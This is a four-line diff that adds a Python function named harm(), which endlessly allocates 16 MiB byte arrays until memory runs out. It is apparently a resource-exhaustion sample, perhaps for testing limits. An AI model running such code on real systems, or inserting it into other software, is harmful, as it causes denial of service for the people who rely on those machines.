@@ -1,0 +1,4 @@
+def harm():
+    held = []
+    while True:
+        held.append(bytearray(1 << 24))
